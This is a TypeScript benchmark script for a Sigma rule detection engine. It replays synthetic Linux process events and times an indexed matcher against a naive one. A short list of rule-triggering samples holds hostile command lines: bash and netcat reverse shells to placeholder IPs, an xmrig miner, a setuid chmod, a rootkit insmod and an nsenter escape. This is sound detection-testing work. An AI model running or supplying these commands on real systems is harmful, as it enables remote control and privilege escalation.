// `npm run bench -- sigma [events]`: every compiled Sigma rule (Yamori's pack + every compilable
// SigmaHQ linux rule) over a deterministic replay of realistic process events. Measures the indexed
// engine and, in the same run, the naive baseline (every rule of the event's category, no literal
// index), prints µs/event and the ratio, and ends with one line of JSON.
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { createSigmaEngine, loadSigmaPack, type SigmaEngine } from '@yamori/detection';

const EVENTS = Number(process.argv[2] ?? 100_000);
const root = join(import.meta.dirname, '..');
const packs = [join(root, 'packages/detection/rules/yamori'), process.env['YAMORI_SIGMA_CORPUS'] ?? '/work/shared/corpora/sigma-linux'].filter((p) =>
  existsSync(p),
);

/** mulberry32: small, fast, deterministic. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = rng(20261122);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)] as T;
const num = (n: number): number => Math.floor(rand() * n);

const users = ['root', 'alice', 'bob', 'www-data', 'postgres', 'ci', 'deploy', 'nobody'];
const homes = ['/home/alice', '/home/bob', '/root', '/var/www/html', '/srv/app', '/home/ci/builds/42', '/tmp', '/'];
const files = ['README.md', 'main.go', 'src/index.ts', 'package.json', 'Makefile', 'app.log', 'config.yaml', 'data.csv', 'notes.txt', 'report.pdf'];
const hosts = ['github.com', 'registry.npmjs.org', 'deb.debian.org', 'api.internal.example', '10.0.3.17', 'db01.lan'];
const parents: readonly [string, string][] = [
  ['/usr/bin/bash', 'bash'],
  ['/usr/bin/zsh', '-zsh'],
  ['/usr/sbin/sshd', 'sshd: alice@pts/0'],
  ['/usr/lib/systemd/systemd', '/sbin/init'],
  ['/usr/sbin/cron', '/usr/sbin/cron -f'],
  ['/usr/bin/sudo', 'sudo -i'],
  ['/usr/bin/make', 'make -j4'],
  ['/usr/bin/node', 'node server.js'],
  ['/usr/bin/python3', 'python3 manage.py runserver'],
  ['/usr/bin/containerd-shim-runc-v2', 'containerd-shim-runc-v2 -namespace moby'],
];
type Cmd = () => [string, string[]];
const commands: readonly Cmd[] = [
  () => ['/usr/bin/ls', ['ls', pick(['-la', '-l', '-1', '--color=auto']), pick(homes)]],
  () => ['/usr/bin/cat', ['cat', pick(files)]],
  () => ['/usr/bin/grep', ['grep', '-rn', pick(['TODO', 'error', 'import', 'func ']), pick(['.', 'src', '/var/log/syslog'])]],
  () => ['/usr/bin/git', ['git', pick(['status', 'pull', 'fetch --all', 'log --oneline -5', 'diff', 'commit -m "fix typo"'])]],
  () => ['/usr/bin/node', ['node', pick(['server.js', 'dist/main.js', '--version', 'scripts/build.ts'])]],
  () => ['/usr/bin/python3', ['python3', pick(['-m pytest -q', 'manage.py migrate', 'setup.py build', '-c "print(1)"', 'app.py'])]],
  () => ['/usr/bin/ps', ['ps', pick(['aux', '-ef', '-o pid,comm'])]],
  () => ['/usr/bin/systemctl', ['systemctl', pick(['status', 'is-active', 'show']), pick(['nginx', 'postgresql', 'ssh', 'docker'])]],
  () => ['/usr/bin/curl', ['curl', '-fsSL', `https://${pick(hosts)}/api/v${num(3)}/health`]],
  () => ['/usr/bin/ssh', ['ssh', `${pick(users)}@${pick(hosts)}`, pick(['uptime', 'df -h', ''])]],
  () => ['/usr/bin/apt-get', ['apt-get', pick(['update', 'install -y jq', 'upgrade -y'])]],
  () => ['/usr/bin/dpkg', ['dpkg', pick(['-l', '--configure -a', '-s bash'])]],
  () => ['/usr/bin/find', ['find', pick(homes), '-name', pick(['*.log', '*.ts', 'core']), '-mtime', `-${num(30)}`]],
  () => ['/usr/bin/tar', ['tar', pick(['czf', 'xzf']), `backup-${num(1000)}.tar.gz`, pick(homes)]],
  () => ['/usr/bin/docker', ['docker', pick(['ps', 'images', 'logs -f web', 'compose up -d'])]],
  () => ['/usr/bin/kubectl', ['kubectl', pick(['get pods -A', 'describe node n1', 'logs deploy/api'])]],
  () => ['/usr/bin/gcc', ['gcc', '-O2', '-c', `src/mod${num(50)}.c`, '-o', `build/mod${num(50)}.o`]],
  () => ['/usr/bin/sed', ['sed', '-i', `s/${pick(['foo', 'v1', 'debug'])}/${pick(['bar', 'v2', 'info'])}/g`, pick(files)]],
  () => ['/usr/bin/awk', ['awk', "'{print $1}'", pick(files)]],
  () => ['/usr/bin/bash', ['bash', '-c', pick(['echo hello', 'cd /srv/app && npm ci', 'test -f /etc/os-release', 'run-parts /etc/cron.daily'])]],
  () => ['/usr/bin/rsync', ['rsync', '-az', `${pick(homes)}/`, `backup@${pick(hosts)}:/backups/`]],
  () => ['/usr/bin/vim', ['vim', pick(files)]],
  () => ['/usr/bin/id', ['id', '-u']],
  () => ['/usr/bin/uname', ['uname', '-a']],
];
// A few that should fire (about 0.3% of events).
const bad: readonly [string, string[]][] = [
  ['/usr/bin/bash', ['bash', '-i', '>&', '/dev/tcp/10.1.2.3/4444', '0>&1']],
  ['/usr/bin/nc', ['nc', '-e', '/bin/sh', '203.0.113.5', '4444']],
  ['/tmp/.x/xmrig', ['xmrig', '-o', 'stratum+tcp://pool.example:3333', '-u', 'wallet']],
  ['/usr/bin/chmod', ['chmod', 'u+s', '/tmp/sh']],
  ['/usr/bin/base64', ['base64', '-d', '/tmp/p.b64']],
  ['/usr/sbin/insmod', ['insmod', '/tmp/rootkit.ko']],
  ['/usr/bin/nsenter', ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', '-p', 'sh']],
];

function makeEvents(n: number): Record<string, unknown>[] {
  const out: Record<string, unknown>[] = [];
  for (let i = 0; i < n; i++) {
    const [exe, args] = rand() < 0.003 ? pick(bad) : (pick(commands) as Cmd)();
    const [pexe, pcmd] = pick(parents);
    const user = pick(users);
    out.push({
      '@timestamp': new Date(1_790_000_000_000 + i * 10).toISOString(),
      event: { id: `bench-${i.toString(16).padStart(8, '0')}`, dataset: 'yamori.process', kind: 'event', category: ['process'], type: ['start'], action: 'exec' },
      process: {
        entity_id: `e${i}`,
        pid: 1000 + (i % 60000),
        ppid: 900 + num(100),
        name: exe.slice(exe.lastIndexOf('/') + 1),
        executable: exe,
        args,
        command_line: args.join(' '),
        working_directory: pick(homes),
        user: { name: user, id: user === 'root' ? '0' : String(1000 + num(10)) },
        parent: { executable: pexe, command_line: pcmd, pid: 900 + num(100) },
        ...(rand() < 0.1 ? { env_vars: ['PATH=/usr/local/bin:/usr/bin:/bin', `HOME=/home/${user}`, 'LANG=C.UTF-8'] } : {}),
      },
    });
  }
  return out;
}

/**
 * CPU time (user+system of this process) is the figure reported: the bench machine is shared, and
 * wall time there includes waiting for a core. Wall time is printed beside it.
 */
function run(engine: SigmaEngine, events: readonly Record<string, unknown>[]): { us: number; wallUs: number; matches: number } {
  let matches = 0;
  const c0 = process.cpuUsage();
  const t0 = process.hrtime.bigint();
  for (const e of events) matches += engine.match(e).length;
  const ns = Number(process.hrtime.bigint() - t0);
  const cpu = process.cpuUsage(c0);
  return { us: (cpu.user + cpu.system) / events.length, wallUs: ns / 1000 / events.length, matches };
}

const pack = await loadSigmaPack(packs);
const naive = createSigmaEngine(pack.compiled, { index: false });
const events = makeEvents(EVENTS);
const stats = pack.engine.stats();
console.log(`rule packs: ${packs.join(', ')}`);
console.log(`rules loaded: ${pack.compiled.length} (not compiled: ${pack.errors.length}, other log sources or unmapped fields)`);
for (const [cat, s] of Object.entries(stats.byCategory)) console.log(`  ${cat}: ${s.rules} rules, ${s.prefiltered} behind the literal index`);
console.log(`events: ${events.length} process starts (deterministic replay)`);

// Warm both engines (JIT) on a slice, then measure each over the whole replay.
run(pack.engine, events.slice(0, 5000));
run(naive, events.slice(0, 5000));
const fast = run(pack.engine, events);
const slow = run(naive, events);
if (fast.matches !== slow.matches) {
  console.error(`indexed and naive engines disagree: ${fast.matches} vs ${slow.matches} matches`);
  process.exit(1);
}
console.log(`matches: ${fast.matches} (same in both engines)`);
const fired = new Map<string, number>();
for (const e of events) for (const m of pack.engine.match(e)) fired.set(`${m.level} ${m.title}`, (fired.get(`${m.level} ${m.title}`) ?? 0) + 1);
for (const [rule, n] of [...fired].sort((a, b) => b[1] - a[1]).slice(0, 8)) console.log(`  ${String(n).padStart(6)}  ${rule}`);
console.log(`indexed engine: ${fast.us.toFixed(2)} µs/event CPU (${fast.wallUs.toFixed(2)} µs/event wall)`);
console.log(`naive baseline: ${slow.us.toFixed(2)} µs/event CPU (${slow.wallUs.toFixed(2)} µs/event wall; every rule of the category, no index)`);
console.log(`ratio naive/indexed: ${(slow.us / fast.us).toFixed(1)}x CPU, ${(slow.wallUs / fast.wallUs).toFixed(1)}x wall  (target ≤ 20 µs/event: ${fast.us <= 20 ? 'met' : 'NOT met'})`);
console.log(
  JSON.stringify({
    rules_loaded: pack.compiled.length,
    events: events.length,
    us_per_event: Number(fast.us.toFixed(3)),
    wall_us_per_event: Number(fast.wallUs.toFixed(3)),
    naive_us_per_event: Number(slow.us.toFixed(3)),
  }),
);
